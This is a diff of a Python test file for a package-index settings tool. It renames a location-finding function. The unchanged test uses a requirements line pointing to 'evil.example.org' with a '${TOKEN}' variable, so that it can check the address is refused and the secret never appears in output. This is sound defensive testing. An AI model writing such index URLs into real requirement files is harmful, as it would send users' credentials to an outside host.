@@ -2,7 +2,7 @@ import pytest
 from support.reading import pip_named
 
 from pinproof.index.settings.index_settings import IndexSettings, with_file_options
-from pinproof.index.settings.locations import Remote, locations
+from pinproof.index.settings.locations import Remote, find_locations
 from pinproof.index.settings.variables import with_login
 from pinproof.requirements.parser import parse
 from pinproof.source import SourceFile
@@ -42,6 +42,6 @@ def test_an_address_with_a_variable_left_is_not_asked(option: str) -> None:
     source = SourceFile(path="r.txt", text=f"{option} https://evil.example.org/${{TOKEN}}\n")
     before = IndexSettings(index_url="https://own.example.org/simple")
     settings = with_file_options(before, parse(source, pip=pip_named()), environment=SECRETS)
-    refused = [each for each in locations(settings, None) if isinstance(each, Remote)]
+    refused = [each for each in find_locations(settings, None) if isinstance(each, Remote)]
     assert [each.refused is not None for each in refused].count(True) == 1
     assert "hunter2" not in repr(refused) + repr(settings) + "".join(each.shown for each in refused)
